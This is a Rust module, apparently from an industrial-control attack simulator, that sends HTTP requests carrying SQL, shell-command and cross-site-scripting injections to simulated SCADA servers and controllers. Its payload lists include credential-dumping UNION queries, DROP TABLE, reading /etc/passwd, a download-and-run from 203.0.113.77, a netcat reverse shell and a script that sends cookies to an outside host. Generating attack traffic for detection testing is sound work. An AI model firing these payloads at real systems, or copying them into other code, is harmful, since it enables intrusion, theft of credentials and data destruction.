//! HTTP injection: requests whose parameters are statements for a database, a shell or a browser, in the
//! hope that the server passes them on.

use super::{Attack, Needs, technique};
use crate::net::web::Get;
use crate::plant::Role;
use crate::stage::{Outcome, Stage};

pub static ATTACK: Attack = Attack {
    name: "http-injection",
    about: "sends statements for databases, shells and browsers to web servers",
    technique: technique("T0819"),
    acceptable: &["T0866"],
    grade: "B",
    kind: "fast",
    proto: "http",
    variants: &["sql", "command", "script"],
    needs: Needs::Sockets,
    seconds: [800, 60, 8],
    run: |stage| Box::pin(run(stage)),
};

async fn run(mut stage: Stage) -> Outcome {
    let intruder = stage.stranger();
    let scada = stage.known(Role::Scada).ip();
    let device = stage.controller();
    let payloads = match stage.variant {
        "command" => COMMAND,
        "script" => SCRIPT,
        _ => SQL,
    };
    for nth in 0..stage.by(10, 24, 60) {
        let to = if stage.rng.chance(0.5) { scada } else { device };
        let paths: &[&str] = if to == scada { &["/api/values", "/report", "/login"] } else { DEVICE_PATHS };
        let (path, field) = (stage.rng.pick(paths), stage.rng.pick(FIELDS));
        let number = stage.rng.below(9000) + 1000;
        let payload = stage.rng.pick(payloads).replace('~', &number.to_string());
        let value = format!("{field}={}", escaped(&payload));
        let get = if nth % 3 == 2 {
            Get::post(path, value).with("Content-Type", "application/x-www-form-urlencoded")
        } else {
            Get::path(format!("{path}?{value}"))
        };
        let agent = stage.by("Mozilla/5.0 (X11; Linux x86_64)", "python-requests/2.31", "sqlprobe/1.7");
        drop(intruder.get(to, get.with("User-Agent", agent)).await);
        stage.pause(stage.by(85.0, 2.4, 0.1)).await;
    }
    Ok(())
}

/// As a form sends it: what has a meaning in addresses becomes a percent sign and two digits.
fn escaped(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        match byte {
            b' ' => out.push('+'),
            b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' | b'-' | b'_' | b'.' | b'*' => out.push(char::from(byte)),
            _ => out += &format!("%{byte:02X}"),
        }
    }
    out
}

const DEVICE_PATHS: &[&str] = &["/status", "/config", "/index.html", "/version"];
const FIELDS: &[&str] = &["id", "name", "tag", "user", "from", "host"];
/// `~` becomes a number.
const SQL: &[&str] = &[
    "' OR '~'='~",
    "~ UNION SELECT name, password, ~ FROM users--",
    "1; DROP TABLE readings_~;--",
    "' AND (SELECT COUNT(*) FROM setpoints) > ~ --",
    "1 OR SLEEP(~)#",
    "admin'/*~*/--",
    "~) UNION ALL SELECT NULL,NULL,version()--",
];
const COMMAND: &[&str] = &[
    "127.0.0.1; cat /etc/passwd #~",
    "`id>/tmp/~`",
    "$(wget http://203.0.113.77/~.sh -O- | sh)",
    "pump | nc 203.0.113.77 ~ -e /bin/sh",
    "x && reboot # ~",
    "|| uname -a; echo ~",
];
const SCRIPT: &[&str] = &[
    "<script>alert(~)</script>",
    "\"><img src=x onerror=alert(~)>",
    "<svg/onload=fetch('//203.0.113.77/'+document.cookie+~)>",
    "javascript:eval(String.fromCharCode(~))",
    "<iframe src=\"http://203.0.113.77/~\"></iframe>",
];
